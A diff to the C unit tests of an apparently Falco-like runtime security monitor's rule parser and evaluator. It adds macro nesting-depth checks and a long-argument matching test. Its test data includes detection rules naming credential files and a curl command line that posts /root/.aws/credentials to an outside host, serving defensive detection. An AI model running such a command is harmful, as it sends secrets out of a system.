@@ -26,6 +26,7 @@ static const char *const ports[] = { "22", "80" };
 static const char *const nothing[] = { NULL };
 static struct cond *is_root;	/* macro is_root: proc.uid == 0 */
 static struct cond *is_bash;	/* macro is_bash: proc.name in shells */
+static struct cond *deep[2];	/* deep63, deep64: nested that deep */
 
 static bool name__is(const char *name, size_t len, const char *want)
 {
@@ -39,8 +40,13 @@ static const struct cond *env_macro(void *ctx, const char *name, size_t len,
 		return is_root;
 	if (name__is(name, len, "is_bash"))
 		return is_bash;
+	if (name__is(name, len, "deep63"))
+		return deep[0];
+	if (name__is(name, len, "deep64"))
+		return deep[1];
 	if (name__is(name, len, "broken")) {
-		snprintf(err->msg, sizeof(err->msg), "macro 'broken' is invalid");
+		snprintf(err->msg, sizeof(err->msg),
+			 "macro 'broken' is invalid");
 		return NULL;
 	}
 	return NULL;
@@ -78,10 +84,25 @@ static struct cond *parse(const char *text)
 	return c;
 }
 
+/* open.write inside n - 1 parentheses: nested n deep. */
+static struct cond *parse_nested(int n)
+{
+	char text[256] = "";
+
+	for (int i = 1; i < n; i++)
+		strcat(text, "(");
+	strcat(text, "open.write");
+	for (int i = 1; i < n; i++)
+		strcat(text, ")");
+	return parse(text);
+}
+
 static int setup(void **state)
 {
 	is_root = parse("proc.uid == 0");
 	is_bash = parse("proc.name in shells");
+	deep[0] = parse_nested(63);
+	deep[1] = parse_nested(64);
 	return 0;
 }
 
@@ -89,6 +110,8 @@ static int teardown(void **state)
 {
 	cond__free(is_root);
 	cond__free(is_bash);
+	cond__free(deep[0]);
+	cond__free(deep[1]);
 	home__flush();
 	return 0;
 }
@@ -137,7 +160,8 @@ static void test_error_names(void **state)
 		    "unknown field or macro 'nosuch'");
 	PARSE_ERROR("proc.pid == 1 or or", 17, "unknown field or macro 'or'");
 	/* The macro's own error, at the name. */
-	PARSE_ERROR("proc.pid == 1 and broken", 18, "macro 'broken' is invalid");
+	PARSE_ERROR("proc.pid == 1 and broken", 18,
+		    "macro 'broken' is invalid");
 	PARSE_ERROR("proc.pid", 8, "expected an operator after 'proc.pid'");
 	PARSE_ERROR("proc.pid 1", 9, "expected an operator after 'proc.pid'");
 	PARSE_ERROR("open.path (x)", 10,
@@ -170,31 +194,40 @@ static void test_error_operator_type(void **state)
 
 static void test_error_literals(void **state)
 {
-	PARSE_ERROR("proc.pid == abc", 12, "proc.pid is a number: 'abc' is not one");
-	PARSE_ERROR("proc.pid == 1.5", 12, "proc.pid is a number: '1.5' is not one");
+	PARSE_ERROR("proc.pid == abc", 12,
+		    "proc.pid is a number: 'abc' is not one");
+	PARSE_ERROR("proc.pid == 1.5", 12,
+		    "proc.pid is a number: '1.5' is not one");
 	PARSE_ERROR("proc.pid < 99999999999999999999", 11,
 		    "proc.pid is a number: '99999999999999999999' is not one");
-	PARSE_ERROR("proc.pid == 5XB", 12, "proc.pid is a number: '5XB' is not one");
-	PARSE_ERROR("proc.pid == \"\"", 12, "proc.pid is a number: '' is not one");
-	PARSE_ERROR("proc.pid in (1, x)", 16, "proc.pid is a number: 'x' is not one");
+	PARSE_ERROR("proc.pid == 5XB", 12,
+		    "proc.pid is a number: '5XB' is not one");
+	PARSE_ERROR("proc.pid == \"\"", 12,
+		    "proc.pid is a number: '' is not one");
+	PARSE_ERROR("proc.pid in (1, x)", 16,
+		    "proc.pid is a number: 'x' is not one");
 	/* A list's items are checked at the list's name. */
-	PARSE_ERROR("proc.pid in shells", 12, "proc.pid is a number: 'sh' is not one");
+	PARSE_ERROR("proc.pid in shells", 12,
+		    "proc.pid is a number: 'sh' is not one");
 	PARSE_ERROR("proc.pid in (1, shells)", 16,
 		    "proc.pid is a number: 'sh' is not one");
 	PARSE_ERROR("connect.addr == 1.2.3", 16, "connect.addr is an address: "
 		    "'1.2.3' is neither an IP address nor a CIDR");
 	PARSE_ERROR("connect.addr == 10.0.0.0/33", 16, "connect.addr is an "
-		    "address: '10.0.0.0/33' is neither an IP address nor a CIDR");
+		    "address: '10.0.0.0/33' is neither an IP address nor a "
+		    "CIDR");
 	PARSE_ERROR("connect.addr != ::1/129", 16, "connect.addr is an "
 		    "address: '::1/129' is neither an IP address nor a CIDR");
 	PARSE_ERROR("flow.addr in (1.2.3.4, x)", 23, "flow.addr is an "
 		    "address: 'x' is neither an IP address nor a CIDR");
-	PARSE_ERROR("open.write == yes", 14, "open.write is true or false, not 'yes'");
-	PARSE_ERROR("open.write != 1", 14, "open.write is true or false, not '1'");
+	PARSE_ERROR("open.write == yes", 14,
+		    "open.write is true or false, not 'yes'");
+	PARSE_ERROR("open.write != 1", 14,
+		    "open.write is true or false, not '1'");
 	PARSE_ERROR("proc.name regex \"a(\"", 16,
 		    "bad regex at character 2: missing closing parenthesis");
 	PARSE_ERROR("proc.name regex \"[z-a]\"", 16, "bad regex at character "
-		    "4: range out of order in character class");
+		    "3: range out of order in character class");
 	PARSE_ERROR("proc.pid ==", 11, "expected a value after '=='");
 	PARSE_ERROR("proc.pid ==  )", 13, "expected a value after '=='");
 	PARSE_ERROR("proc.name startswith (x)", 21,
@@ -203,16 +236,23 @@ static void test_error_literals(void **state)
 
 static void test_error_lists(void **state)
 {
-	PARSE_ERROR("proc.name in ()", 14, "empty list: the test can never be true");
-	PARSE_ERROR("proc.name in ( )", 15, "empty list: the test can never be true");
+	PARSE_ERROR("proc.name in ()", 14,
+		    "empty list: the test can never be true");
+	PARSE_ERROR("proc.name in ( )", 15,
+		    "empty list: the test can never be true");
 	/* A list with no items is an empty list, not an unknown name or a
 	 * literal. */
-	PARSE_ERROR("proc.name in empty", 13, "empty list: the test can never be true");
-	PARSE_ERROR("proc.pid in empty", 12, "empty list: the test can never be true");
-	PARSE_ERROR("proc.name in (empty)", 19, "empty list: the test can never be true");
+	PARSE_ERROR("proc.name in empty", 13,
+		    "empty list: the test can never be true");
+	PARSE_ERROR("proc.pid in empty", 12,
+		    "empty list: the test can never be true");
+	PARSE_ERROR("proc.name in (empty)", 19,
+		    "empty list: the test can never be true");
 	PARSE_ERROR("proc.name in nolist", 13, "undefined list 'nolist'");
-	PARSE_ERROR("proc.name in \"x\"", 13, "expected '(' or a list name after 'in'");
-	PARSE_ERROR("proc.name in", 12, "expected '(' or a list name after 'in'");
+	PARSE_ERROR("proc.name in \"x\"", 13,
+		    "expected '(' or a list name after 'in'");
+	PARSE_ERROR("proc.name in", 12,
+		    "expected '(' or a list name after 'in'");
 	PARSE_ERROR("proc.name in (a b)", 16, "expected ',' or ')' in a list");
 	PARSE_ERROR("proc.name in (a", 15, "expected ',' or ')' in a list");
 	PARSE_ERROR("proc.name in (a,", 16, "expected a value");
@@ -239,7 +279,8 @@ static void test_error_structure(void **state)
 	PARSE_ERROR("", 0, "condition ends where a test was expected");
 	PARSE_ERROR("   ", 3, "condition ends where a test was expected");
 	PARSE_ERROR("not", 3, "condition ends where a test was expected");
-	PARSE_ERROR("proc.pid == 1 and", 17, "condition ends where a test was expected");
+	PARSE_ERROR("proc.pid == 1 and", 17,
+		    "condition ends where a test was expected");
 	PARSE_ERROR("(", 1, "condition ends where a test was expected");
 	PARSE_ERROR("proc.pid == 1 and )", 18,
 		    "expected a field, a macro, 'not' or '('");
@@ -279,6 +320,20 @@ static void test_error_depth(void **state)
 	assert_null(cond__parse(text, strlen(text), &env, &err));
 	assert_string_equal(err.msg, "condition nested deeper than 64");
 	assert_int_equal(err.offset, 4 * COND_MAX_DEPTH);
+
+	/* macros count: a tree's depth includes the macros it uses */
+	assert_int_equal(deep[0]->depth, 63);
+	assert_int_equal(deep[1]->depth, 64);
+	c = parse("deep63");
+	assert_int_equal(c->depth, 64);
+	cond__free(c);
+	c = parse("is_root and not is_bash");
+	assert_int_equal(c->depth, 3);
+	cond__free(c);
+	PARSE_ERROR("deep64", 0, "condition nested deeper than 64");
+	PARSE_ERROR("(deep63)", 1, "condition nested deeper than 64");
+	PARSE_ERROR("open.write or not deep63", 18,
+		    "condition nested deeper than 64");
 }
 
 /* Errors past the first do not overwrite it, and nothing leaks when the
@@ -347,10 +402,14 @@ static void test_eval_strings(void **state)
 		{ "open.path in (/etc/shadow, /root/.ssh/id_rsa)", true },
 		{ "open.path in (/etc/shadow, /etc/passwd)", false },
 		/* 8 items or more: a hashed set */
-		{ "open.path in (a, b, c, d, e, f, g, /root/.ssh/id_rsa)", true },
-		{ "open.path in (a, b, c, d, e, f, g, /root/.ssh/id_rs)", false },
-		{ "open.path in (a, b, c, d, e, f, g, h, i, ~/.ssh/id_rsa)", true },
-		{ "open.path in (a, b, c, d, e, f, g, h, i, ~/.ssh/id_dsa)", false },
+		{ "open.path in (a, b, c, d, e, f, g, /root/.ssh/id_rsa)",
+		  true },
+		{ "open.path in (a, b, c, d, e, f, g, /root/.ssh/id_rs)",
+		  false },
+		{ "open.path in (a, b, c, d, e, f, g, h, i, ~/.ssh/id_rsa)",
+		  true },
+		{ "open.path in (a, b, c, d, e, f, g, h, i, ~/.ssh/id_dsa)",
+		  false },
 		{ "open.path glob /root/.ssh/id_*", true },
 		{ "open.path glob \"/root/*/id_rsa\"", true },
 		{ "open.path glob \"/root/.ssh/id_?sa\"", true },
@@ -420,7 +479,8 @@ static void test_eval_lists(void **state)
 		{ "exec.argv glob \"@*\"", true },
 		{ "exec.argv regex \"^--d\"", true },
 		{ "exec.argv regex \"^-v$\"", false },
-		{ "exec.cmdline == \"curl -s http://x --data @/root/.aws/credentials\"", true },
+		{ "exec.cmdline == "
+		  "\"curl -s http://x --data @/root/.aws/credentials\"", true },
 		{ "exec.cmdline contains \"-s http\"", true },
 		{ "exec.cmdline glob \"curl *--data*\"", true },
 		{ "exec.argc == 5", true },
@@ -668,6 +728,36 @@ static void test_eval_addrs(void **state)
 	CHECK_CASES(&t, unix_);
 }
 
+/* Command lines and arguments are longer than paths: every operator sees
+ * them whole, so padding cannot hide a match. */
+static void test_eval_long_values(void **state)
+{
+	static char argv[VIGIL_ARGV_MAX];
+	static const char *const tests[] = {
+		"exec.cmdline glob \"curl *--data*\"",
+		"exec.cmdline contains \"--data\"",
+		"exec.cmdline regex \"--data @\"",
+		"exec.cmdline endswith \"@/root/.aws/credentials\"",
+		"exec.argv glob \"x*x\"",
+		"exec.argv glob \"@*\"",
+	};
+	struct tev t;
+	size_t n = 0;
+
+	n += snprintf(argv + n, sizeof(argv) - n, "curl") + 1;
+	memset(argv + n, 'x', 6000);	/* one argument of 6000 bytes */
+	n += 6000 + 1;
+	n += snprintf(argv + n, sizeof(argv) - n, "--data") + 1;
+	n += snprintf(argv + n, sizeof(argv) - n,
+		      "@/root/.aws/credentials") + 1;
+	tev__exec(&t, 1, "/usr/bin/curl", "curl");
+	t.ev.exec.argv = (struct bytes){ argv, n };
+	t.ev.exec.argc = 4;
+	for (size_t i = 0; i < ARRAY_SIZE(tests); i++)
+		if (!eval_on(tests[i], &t))
+			fail_msg("'%s' is false", tests[i]);
+}
+
 /* A field the event does not carry makes its test false, whatever the
  * operator; 'not' of such a test is true. */
 static void test_eval_missing(void **state)
@@ -734,7 +824,8 @@ static void test_eval_tilde(void **state)
 		{ "open.path startswith ~/", false },
 		{ "open.path startswith ~", false },
 		{ "open.path != ~/.ssh/id_rsa", true },
-		{ "open.path in (a, b, c, d, e, f, g, h, ~/.ssh/id_rsa)", false },
+		{ "open.path in (a, b, c, d, e, f, g, h, ~/.ssh/id_rsa)",
+		  false },
 	};
 	struct passwd *pw = getpwnam("daemon");
 	char path[256];
@@ -786,8 +877,10 @@ static void test_eval_macros_precedence(void **state)
 		/* and binds tighter than or */
 		{ "proc.pid == 1 and proc.pid == 2 or proc.pid == 100", true },
 		{ "proc.pid == 100 or proc.pid == 1 and proc.pid == 2", true },
-		{ "(proc.pid == 100 or proc.pid == 1) and proc.pid == 2", false },
-		{ "proc.pid == 1 and (proc.pid == 2 or proc.pid == 100)", false },
+		{ "(proc.pid == 100 or proc.pid == 1) and proc.pid == 2",
+		  false },
+		{ "proc.pid == 1 and (proc.pid == 2 or proc.pid == 100)",
+		  false },
 		/* not binds tighter than and */
 		{ "not proc.pid == 1 and proc.pid == 2", false },
 		{ "not (proc.pid == 1 and proc.pid == 2)", true },
@@ -856,6 +949,7 @@ int main(void)
 		cmocka_unit_test(test_eval_numbers),
 		cmocka_unit_test(test_eval_bools),
 		cmocka_unit_test(test_eval_addrs),
+		cmocka_unit_test(test_eval_long_values),
 		cmocka_unit_test(test_eval_missing),
 		cmocka_unit_test(test_eval_tilde),
 		cmocka_unit_test(test_eval_macros_precedence),
